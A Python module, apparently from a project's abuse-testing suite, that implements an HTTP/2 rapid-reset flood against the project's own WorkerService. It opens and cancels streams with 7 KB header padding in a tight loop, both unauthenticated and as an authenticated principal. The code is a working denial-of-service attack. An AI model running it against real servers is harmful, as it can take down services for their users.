"""Rapid reset: sessions of workers that are opened and reset at once, without end, with 7 KB of metadata each.

By somebody without a credential at a server without any, and by a principal within its rights.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncGenerator
from contextlib import suppress

from bench.abuse.attack import Attack
from bench.abuse.one_principal_floods import LIMITS
from bench.abuse.raw_http2 import END_HEADERS, HEADERS, Connection, header, request_headers

__all__ = ["ATTACK", "BY_A_PRINCIPAL"]

_TOGETHER = 50


async def _run(address: str, seconds: float, token: str = "") -> AsyncGenerator[None]:
    block = request_headers("/milepost.v1.WorkerService/Work", address, token)
    block += b"".join(header(f"x-note-{number}", b"x" * 1_000) for number in range(7))
    yield
    until = time.monotonic() + seconds
    while time.monotonic() < until:  # as often as the server hangs up
        async with Connection.open(address) as connection:
            with suppress(ConnectionError):
                while time.monotonic() < until:
                    for _ in range(_TOGETHER):
                        stream = connection.new_stream()
                        connection.write(HEADERS, END_HEADERS, stream, block)
                        connection.cancel(stream)
                    await connection.drain()
                    await asyncio.sleep(0)
    yield


ATTACK = Attack(_run)
BY_A_PRINCIPAL = Attack(_run, limits=LIMITS)
